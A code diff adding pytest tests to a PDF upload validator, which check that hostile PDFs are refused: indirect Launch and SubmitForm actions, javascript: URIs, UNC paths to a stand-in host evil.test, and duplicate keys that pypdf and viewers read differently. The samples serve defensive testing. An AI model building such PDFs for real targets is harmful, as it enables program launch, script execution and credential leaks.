@@ -182,3 +182,93 @@ def test_active_content_is_refused_with_a_clear_message_in_both_languages(upload
     client.get("/?lang=en")
     refused = upload(client, token, samples.pdf_with_link("javascript:app.alert(1)"))
     assert refused.status_code == 400 and "active content" in refused.get_data(as_text=True)
+
+
+#: action types given indirectly (``/S 5 0 R``, object 5 the name): MuPDF and Acrobat follow the reference
+INDIRECT_ACTIONS = {
+    "launch": samples.raw_link(b"<< /S 5 0 R /F (calc.exe) >>", o5=b"/Launch"),
+    "submit_form": samples.raw_link(b"<< /S 5 0 R /F << /FS /URL /F (https://evil.test/x) >> /Flags 4 >>", o5=b"/SubmitForm"),
+    "goto_remote": samples.raw_link(b"<< /S 5 0 R /F (\\\\\\\\evil.test\\\\x.pdf) /D [0 /Fit] >>", o5=b"/GoToR"),
+    "uri_target": samples.raw_link(b"<< /S 5 0 R /URI 6 0 R >>", o5=b"/URI", o6=b"(javascript:alert(1))"),
+    "uri_base": samples.raw_link(b"<< /S /URI /URI (x) >>", o1=b"<< /Type /Catalog /Pages 2 0 R /URI << /Base 5 0 R >> >>",
+                                 o5=b"(javascript:alert(1)//)"),
+}
+
+
+@pytest.mark.parametrize("kind", sorted(INDIRECT_ACTIONS))
+def test_indirect_action_types_and_targets_are_resolved(kind):
+    assert inspect(INDIRECT_ACTIONS[kind]).error == "upload_active_content"
+
+
+#: a key given twice: pypdf keeps the first value, viewers the last
+DUPLICATE_KEYS = {
+    "action_type": samples.raw_link(b"<< /S /URI /URI (https://ok.test) /S /Launch /F (calc.exe) >>"),
+    "uri": samples.raw_link(b"<< /S /URI /URI (https://ok.test) /URI (javascript:alert(1)) >>"),
+    "annotation_subtype": samples.raw_annotation(b"/Subtype /Text /Subtype /FileAttachment /FS (\\\\\\\\evil.test\\\\x.exe)"),
+    "in_object_stream": samples.pdf_in_object_stream(
+        b"<< /Type /Catalog /Pages 2 0 R /URI << /Base (https://ok.test/) /Base (javascript:alert(1)//) >> >>"),
+}
+
+
+@pytest.mark.parametrize("kind", sorted(DUPLICATE_KEYS))
+def test_a_dictionary_with_a_repeated_key_is_refused(kind):
+    assert inspect(DUPLICATE_KEYS[kind]).error == "upload_damaged"
+
+
+def test_repeated_keys_are_seen_even_when_pypdf_is_quieted():
+    import logging
+
+    quiet = logging.getLogger("pypdf")
+    before = quiet.level
+    quiet.setLevel(logging.ERROR)
+    try:
+        assert not inspect(DUPLICATE_KEYS["action_type"]).ok
+    finally:
+        quiet.setLevel(before)
+
+
+def test_a_repeated_key_on_one_thread_does_not_refuse_a_clean_file_on_another():
+    import threading
+
+    clean = samples.pdf_in_object_stream(b"<< /Type /Catalog /Pages 2 0 R >>")
+    results: dict[str, list] = {"clean": [], "duplicate": []}
+
+    def check(kind, content):
+        for _ in range(15):
+            results[kind].append(inspect(content).error)
+
+    workers = [threading.Thread(target=check, args=("clean", clean)),
+               threading.Thread(target=check, args=("duplicate", DUPLICATE_KEYS["uri"]))]
+    for worker in workers:
+        worker.start()
+    for worker in workers:
+        worker.join(60)
+    assert results["clean"] == [None] * 15
+    assert results["duplicate"] == ["upload_damaged"] * 15
+
+
+def test_hand_written_clean_files_pass():
+    assert inspect(samples.raw_link(b"<< /S /URI /URI (https://www.jobcenter.example/) >>")).ok
+    assert inspect(samples.raw_link(b"<< /S 5 0 R /D [3 0 R /Fit] >>", o5=b"/GoTo")).ok
+    assert inspect(samples.pdf_in_object_stream(b"<< /Type /Catalog /Pages 2 0 R >>")).ok
+
+
+#: actions that play, fetch or open something outside the document (UNC paths included)
+OUTSIDE_ACTIONS = {
+    "thread": samples.raw_link(b"<< /S /Thread /F (\\\\\\\\evil.test\\\\x.pdf) /D 0 >>"),
+    "sound": samples.raw_link(b"<< /S /Sound /Sound 5 0 R >>", o5=b"<< /R 8000 /Length 0 >>\nstream\n\nendstream"),
+    "movie": samples.raw_link(b"<< /S /Movie /T (clip) >>"),
+    "rendition": samples.raw_link(b"<< /S /Rendition /OP 0 >>"),
+    "rich_media_execute": samples.raw_link(b"<< /S /RichMediaExecute /TA 5 0 R >>", o5=b"<< >>"),
+    "goto_embedded": samples.raw_link(b"<< /S /GoToE /F (\\\\\\\\evil.test\\\\x.pdf) /D [0 /Fit] >>"),
+    "indirect_rendition": samples.raw_link(b"<< /S 5 0 R /OP 0 >>", o5=b"/Rendition"),
+    "file_attachment_unc": samples.raw_annotation(b"/Subtype /FileAttachment /FS << /Type /Filespec /F (\\\\\\\\evil.test\\\\x.exe) >>"),
+    "file_attachment_indirect": samples.raw_annotation(b"/Subtype 5 0 R /FS (\\\\\\\\evil.test\\\\x.exe)", o5=b"/FileAttachment"),
+    "sound_annotation": samples.raw_annotation(b"/Subtype /Sound /Sound 5 0 R", o5=b"<< /R 8000 /Length 0 >>\nstream\n\nendstream"),
+    "movie_annotation": samples.raw_annotation(b"/Subtype /Movie /Movie << /F (\\\\\\\\evil.test\\\\x.avi) >>"),
+}
+
+
+@pytest.mark.parametrize("kind", sorted(OUTSIDE_ACTIONS))
+def test_actions_and_annotations_reaching_outside_are_refused(kind):
+    assert inspect(OUTSIDE_ACTIONS[kind]).error == "upload_active_content"
